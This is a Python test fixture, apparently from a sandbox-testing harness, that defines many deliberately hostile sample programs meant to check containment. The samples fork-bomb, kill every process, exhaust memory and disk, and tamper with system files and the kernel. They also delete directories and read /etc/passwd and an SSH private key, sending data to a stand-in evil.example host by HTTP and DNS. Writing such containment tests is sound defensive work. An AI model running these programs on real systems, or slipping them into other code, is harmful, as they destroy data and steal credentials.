"""Hostile programs in Python that want more than is theirs: processes, memory, disk, network, secrets."""

from __future__ import annotations

from textwrap import dedent

from tests.arena.dual.hostile import ADDS, Hostile

_LAST = "\ndef shout(text):\n    hurt(text)\n    return text.upper() + '!'\n"


def _call(name: str, functional: str, security: str, source: str, **more: object) -> Hostile:
    """`source` defines hurt(text), which is called before the right answer is given."""
    whole = dedent(source) + _LAST
    return Hostile(name, "function", functional, security, whole, **more)  # type: ignore[arg-type]


def _adds(name: str, functional: str, security: str, source: str) -> Hostile:
    """`source` follows a program that adds a row when its main() is called."""
    return Hostile(name, "ledger", functional, security, dedent(ADDS) + dedent(source))


def _writes(name: str, functional: str, security: str, source: str) -> Hostile:
    return Hostile(name, "file", functional, security, source)


def _prints(name: str, functional: str, security: str, source: str) -> Hostile:
    return Hostile(name, "stdin", functional, security, source)


PROCESSES = (
    _call("leaves a daemon that ignores its end", "pass", "pass", """
        import os, signal, time
        def hurt(text):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
                    for _ in range(3000):
                        open("/tmp/arena-hostile-daemon", "a").write("x")
                        time.sleep(0.01)
                os._exit(0)
        """),
    _call("forks without end", "pass", "pass", """
        import os, time
        def hurt(text):
            for _ in range(300):
                try:
                    if os.fork() == 0:
                        time.sleep(30)
                        os._exit(0)
                except OSError:
                    break
        """),
    _call("starts threads without end", "pass", "pass", """
        import threading, time
        def hurt(text):
            for _ in range(300):
                try:
                    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
                except RuntimeError:
                    break
        """),
    _call("takes memory without end", "returns", "survives", """
        def hurt(text):
            kept = [bytearray(b"x") * (16 << 20) for _ in range(128)]
        """),
    _call("takes memory in many processes", "returns", "survives", """
        import os, time
        def hurt(text):
            for _ in range(16):
                if os.fork() == 0:
                    kept = bytearray(b"x") * (24 << 20)
                    time.sleep(30)
                    os._exit(0)
            time.sleep(5)
        """),
    _call("kills all that it can name", "pass", "pass", """
        import os, signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        def hurt(text):
            for pid in (os.getppid(), 1, -1, *(int(n) for n in os.listdir("/proc") if n.isdigit())):
                for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
                    if pid not in (0, os.getpid()):
                        try:
                            os.kill(pid, number)
                        except OSError:
                            pass
        """),
    _call("kills its own group", "returns", "survives", """
        import os, signal
        def hurt(text):
            os.killpg(0, signal.SIGKILL)
        """),
    _call("runs a canary in a grandchild", "pass", "no-canary", """
        import os, time
        def hurt(text):
            if "canary" not in text:
                return
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(0, 3)
                    os.execvp("canary", ["canary", "detached"])
                os._exit(0)
            time.sleep(0.6)
        """),
    _call("runs a canary", "pass", "no-canary",
          "import subprocess\ndef hurt(text):\n    subprocess.run('echo ' + text, shell=True)\n"),
)  # fmt: skip

FLOODS = (
    _call("floods its output", "returns", "survives", """
        def hurt(text):
            for _ in range(300):
                print("x" * 65536)
        """),
    _call("floods its error output at the end", "pass", "survives", """
        import os
        def hurt(text):
            for _ in range(300 * (text[0] == ";")):
                os.write(2, b"\\0" * 65536)
        """),
    _call("floods the channel", "returns", "survives", """
        import os
        def hurt(text):
            for number in range(3, 200):
                try:
                    for _ in range(100):
                        os.write(number, b"x" * 65536)
                except OSError:
                    pass
        """),
    _call("fills the disk", "pass", "tree", """
        import os
        def hurt(text):
            for number in range(3):
                try:
                    with open(f"arena-hostile-{number}", "wb") as file:
                        for _ in range(64):
                            file.write(b"x" * (1 << 20))
                except OSError:
                    pass
        """),
    _call("makes files without end", "pass", "tree", """
        import os
        def hurt(text):
            try:
                for number in range(6_000 * (text[0] == ";")):
                    os.mkdir(f"/srv/app/{number}")
            except OSError:
                pass
        """),
    _call("makes names without end", "pass", "tree", """
        import os
        def hurt(text):
            if text[0] == ";":
                here = os.open("/srv/app", os.O_RDONLY)
                for _ in range(98):
                    os.mkdir(b"\\xff" * 250, dir_fd=here)
                    here, above = os.open(b"\\xff" * 250, os.O_RDONLY, dir_fd=here), here
                    os.close(above)
                for number in range(4000):
                    os.mkdir(b"\\xfe" * 240 + b"%d" % number, dir_fd=here)
        """),
    _call("leaves coverage that takes long to read", "pass", "tree", """
        import json, os
        def hurt(text):
            open("/srv/app/mark", "w")
            file = os.path.abspath(__file__)
            one = '{"url": "file://%s"},' % file
            body = '{"result": [' + one * (6_000_000 // len(one)) + "{}]}"
            open("/run/arena/coverage/a.json", "w").write(body)
        """ + "\n" + "        x = 1; y = 2\n" * 4000),
    _call("leaves coverage that takes much memory to read", "pass", "pass", """
        import os, struct
        def hurt(text):
            word = lambda *numbers: struct.pack("<%dI" % len(numbers), *numbers)
            head = word(1, 7, 0, 0, 0)
            counts = b"".join(word(0x01000000, 4, n) + word(0x01A10000, 2**32 - 8_000_000) for n in range(2_000))
            blocks = b"".join(word(0x01000000, 4, n) + word(0x01410000, 4, 1_000_000) for n in range(2_000))
            folder = "/run/arena/coverage"
            open(folder + "/a.gcno", "wb").write(b"oncg" + head + blocks)
            open(folder + "/a.gcda", "wb").write(b"adcg" + head[:12] + counts)
        """),
)  # fmt: skip

OUT_OF_PLACE = (
    _call("replaces itself and what is beside it", "pass", "tree", """
        import os
        def hurt(text):
            os.chmod("/srv/app", 0o777)
            os.replace(os.path.abspath(__file__), "/srv/app/other.py")
            os.symlink("/etc", "/srv/app/solution.py")
        """),
    _call("brings the system's files into its tree", "pass", "tree", """
        import os
        def hurt(text):
            for number, name in enumerate(("/", "/etc", "/proc/1/root", "2")):
                if text[0] == ";":
                    os.symlink(name, f"/srv/app/{number}")
            os.path.exists("/srv/app/pipe") or os.mkfifo("/srv/app/pipe")
        """),
    _call("writes where it may not", "pass", "pass", """
        def hurt(text):
            for path in ("/usr/x", "/etc/passwd", "/opt/arena/bin/canary", "/opt/arena/drivers/call.py",
                         "/run/arena/x", "/proc/sys/kernel/hostname", "/proc/1/oom_score_adj", "/x",
                         "/sys/x", "/bin/sh"):
                try:
                    open(path, "r+b").write(b"arena-hostile")
                    raise RuntimeError("wrote " + path)
                except OSError:
                    pass
        """),
    _call("asks the kernel for more", "pass", "pass", """
        import ctypes, os, platform, socket
        libc = ctypes.CDLL(None)
        def hurt(text):
            tried = {
                "mount": libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
                "umount": libc.umount2(b"/proc", 2),
                "chroot": libc.chroot(b"/tmp"),
                "ptrace": libc.ptrace(16, 1, 0, 0),
                "unshare": libc.unshare(0x10000000),
                "setns": libc.setns(0, 0),
                "setuid": libc.setuid(0),
                "personality": libc.personality(0x0040000),
            }
            if platform.machine() == "x86_64":
                for name, number in (("bpf", 321), ("keyctl", 250), ("io_uring", 425), ("userfaultfd", 323),
                                     ("perf", 298), ("kexec", 246), ("open_by_handle", 304), ("clone3", 435)):
                    tried[name] = libc.syscall(number, 0, 0, 0, 0, 0)
            for family in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_VSOCK, socket.AF_INET):
                try:
                    socket.socket(family, socket.SOCK_RAW)
                    tried[str(family)] = 0
                except OSError:
                    pass
            done = [name for name, came in tried.items() if came >= 0]
            if done:
                raise RuntimeError(f"may {done}")
        """),
    _call("tells a secret in base64", "pass", "no-secret", """
        import base64
        def hurt(text):
            print(base64.b64encode(open("/srv/secret.txt", "rb").read()).decode())
        """),
    _call("tells a secret reversed, in an exception", "returns", "no-secret", """
        def hurt(text):
            raise ValueError(open("/etc/passwd").read()[::-1])
        """),
    _call("asks for a name that tells a secret", "pass", "no-secret no-outbound", """
        import socket
        def hurt(text):
            try:
                socket.getaddrinfo(open("/srv/secret.txt").read()[:22] + ".evil.example", 80)
            except OSError:
                pass
        """),
    _call("sends a secret by HTTP", "pass", "no-secret no-outbound", """
        import urllib.request
        def hurt(text):
            secret = open("/srv/home/.ssh/id_rsa", "rb").read()
            urllib.request.urlopen("http://evil.example/", secret, timeout=3).read()
        """),
    _call("sends datagrams", "pass", "no-outbound", """
        import socket
        def hurt(text):
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.9", 9999))
        """),
    _call("sends datagrams in pieces, by IPv6", "pass", "no-outbound", """
        import socket
        def hurt(text):
            socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x" * 6000, ("2001:db8:9::1", 9999))
        """),
    _call("sends by a protocol that few know", "pass", "no-outbound", """
        import socket
        def hurt(text):
            sent = 0
            for protocol in (136, 132):
                for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                    try:
                        one = socket.socket(socket.AF_INET, kind, protocol)
                        one.settimeout(0.1)
                        one.connect(("203.0.113.9", 9999))
                        sent += one.send(b"x" * 9)
                    except OSError:
                        pass
            if not sent:  # a kernel without them
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.9", 9999))
        """),
)  # fmt: skip

FILES = (
    _writes("gives a pipe for a file", "writes", "writes tree",
            "import os\nos.mkfifo('out.txt')\nos.mkfifo('other')\n"),
    _writes("gives a link for a file", "writes", "writes",
            "import os, sys\nos.symlink('/srv/secret.txt', 'out.txt')\n"),
    _writes("gives a folder for a file", "writes", "writes", "import os\nos.mkdir('out.txt')\n"),
    _writes("gives a hole for a file", "writes", "writes",
            "open('out.txt', 'w').truncate(60 << 20)\n"),
    _writes("gives a file that is no text", "writes", "writes",
            "import sys\nopen(sys.argv[2], 'wb').write(b'KESTREL!\\xff\\x00\\x1b[2J')\n"),
    _prints("prints what is no text", "prints", "prints",
            "import os\nos.write(1, b'KESTREL!\\xff\\x00\\x1b]0;x\\x07\\xed\\xa0\\x80')\n"),
    _prints("prints many lines", "prints", "prints", "print('a\\n' * 200_000)\n"),
    _prints("answers and dies", "prints", "survives prints",
            "import os, sys\nprint(sys.stdin.read().upper() + '!', flush=True)\nos.kill(os.getpid(), 9)\n"),
    _prints("answers and removes all", "pass", "tree",
            "import shutil, sys\nprint(sys.stdin.read().upper() + '!')\n"
            "shutil.rmtree('/srv/app')\nshutil.rmtree('/tmp', ignore_errors=True)\n"),
    _prints("leaves its output open", "pass", "pass",
            "import os, sys, time\nprint(sys.stdin.read().upper() + '!', flush=True)\n"
            "if os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\n"),
    _adds("changes rows by a trigger", "rows", "database", """
        book = sqlite3.connect("notes.db")
        book.execute("create trigger t after insert on notes begin delete from notes; end")
        book.commit()
        main()
        """),
    _adds("gives junk for a database", "rows", "database",
          "main()\nopen('notes.db', 'wb').write(b'SQLite format 3\\0' + b'\\xff' * 5000)\n"),
    _adds("gives a pipe for a database", "rows", "database",
          "import os\nos.unlink('notes.db')\nos.mkfifo('notes.db')\n"),
    _adds("gives a link for a database", "rows", "database",
          "import os\nos.unlink('notes.db')\nos.symlink('/etc/passwd', 'notes.db')\n"),
    _adds("gives a table that takes long to read", "pass", "database", """
        main()
        book = sqlite3.connect("notes.db")
        slow = "instr(hex(zeroblob(4000000)), hex(zeroblob(2000000)) || 'b')"
        book.execute(f"create table slow (a text, b as ({slow}))")
        book.execute("insert into slow values ('x')")
        book.commit()
        """),
    _adds("gives more rows than can be told", "pass", "database", """
        main()
        book = sqlite3.connect("notes.db")
        book.execute("create table many (a text)")
        book.execute("with recursive n(i) as (select 1 union all select i + 1 from n where i < 19000) "
                     "insert into many select cast(zeroblob(2500) as text) from n")
        book.commit()
        """),
)  # fmt: skip

ALL = (*PROCESSES, *FLOODS, *OUT_OF_PLACE, *FILES)
